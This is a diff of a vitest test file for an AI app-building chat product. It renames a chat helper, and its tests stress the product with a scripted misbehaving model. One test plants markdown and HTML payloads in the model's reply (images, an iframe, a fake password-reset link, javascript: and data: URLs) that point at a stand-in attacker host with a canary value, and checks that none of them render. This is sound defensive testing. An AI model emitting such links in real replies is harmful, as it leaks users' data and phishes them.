@@ -3,7 +3,7 @@ import { describe, expect, it } from 'vitest'
 import { type ChatMessage, textOf } from '#contract/chat/chat'
 import { openVisitor } from './browser.ts'
 import { heading, withstanding } from './hostile-world.ts'
-import { preview, repliesOn, replyFinished, sayInChat } from './person.ts'
+import { preview, repliesOn, replyFinished, sendInChat } from './person.ts'
 import { action, addFile, headed, NOTES_APP } from './scripted-product.ts'
 
 const world = withstanding()
@@ -85,10 +85,10 @@ describe('a model that misbehaves', () => {
       const appId = await ada.makeApp({ text: addFile('pages/Home.jsx', headed('Before')) })
       const tab = await ada.openEditor(appId)
       await world.product.script({ text: '' })
-      await sayInChat(tab, 'Anything?')
+      await sendInChat(tab, 'Anything?')
       await repliesOn(tab).last().getByRole('alert').getByText('An error occurred while processing your request').waitFor()
       await world.product.script({ text: addFile('pages/Home.jsx', headed('After')) })
-      await sayInChat(tab, 'Again')
+      await sendInChat(tab, 'Again')
       await heading(tab, 'After').waitFor()
     }))
 
@@ -98,7 +98,7 @@ describe('a model that misbehaves', () => {
       const { latestVersionId } = await ada.app(appId)
       const tab = await ada.openEditor(appId)
       await world.product.script({ status: 429, headers: { 'retry-after-ms': '20' } })
-      await sayInChat(tab, 'Change it')
+      await sendInChat(tab, 'Change it')
       await repliesOn(tab).last().getByRole('alert').getByText('Rate limit exceeded. Please try again later.').waitFor()
       expect((await ada.app(appId)).latestVersionId).toBe(latestVersionId)
       await heading(tab, 'Before').waitFor()
@@ -117,7 +117,7 @@ describe('a model that misbehaves', () => {
       ].join('\n')
       await world.product.script({ text }, { text: 'I leave it at that.' })
       const tab = await ada.openEditor(appId)
-      await sayInChat(tab, 'Make a page')
+      await sendInChat(tab, 'Make a page')
       await heading(tab, 'Ends with </action> here').waitFor()
       const reply = repliesOn(tab).last()
       await reply.getByText('The path leaves the app.').waitFor()
@@ -183,7 +183,7 @@ describe('what a reply may not do by itself', () => {
       const tab = await ada.openEditor(appId)
       const drop = `${action('delete_file', 'entities/Note.json', '')}${addFile('pages/Home.jsx', headed('No notes'))}`
       await world.product.script({ text: drop })
-      await sayInChat(tab, 'Remove the notes')
+      await sendInChat(tab, 'Remove the notes')
       const card = tab.getByRole('region', { name: 'Needs your confirmation' })
       await card.getByText('2 notes are lost (1 of them a sample record).').waitFor()
       const before = await ada.app(appId)
@@ -198,7 +198,7 @@ describe('what a reply may not do by itself', () => {
       await card.getByRole('button', { name: 'Dismiss' }).click()
       await tab.getByText('You dismissed this. Nothing was changed.').waitFor()
       expect((await ada.app(appId)).latestVersionId).toBe(before.latestVersionId)
-      await sayInChat(tab, 'Remove the notes, really')
+      await sendInChat(tab, 'Remove the notes, really')
       await card.getByRole('button', { name: 'Confirm' }).click()
       await tab.getByText('You confirmed this.').waitFor()
       expect((await ada.app(appId)).latestVersionId).not.toBe(before.latestVersionId)
@@ -214,7 +214,7 @@ describe('what a reply may not do by itself', () => {
       const leak = 'https://evil-host.example/?d=CNRY'
       const text = `![a](${leak}) ![b][r] [Reset your password](${leak}) <img src="${leak}"> <iframe src="${leak}"></iframe> <${leak}>\n\n[x](javascript:alert(1)) [y](data:text/html,z)\n\n[r]: ${leak}\n\nThe end.`
       await world.product.script({ text })
-      await sayInChat(tab, 'Summarise the rows')
+      await sendInChat(tab, 'Summarise the rows')
       const reply = repliesOn(tab).last()
       await reply.getByText('The end.').waitFor()
       await expect.poll(() => reply.locator('img, iframe, link, script, video, object').count()).toBe(0)
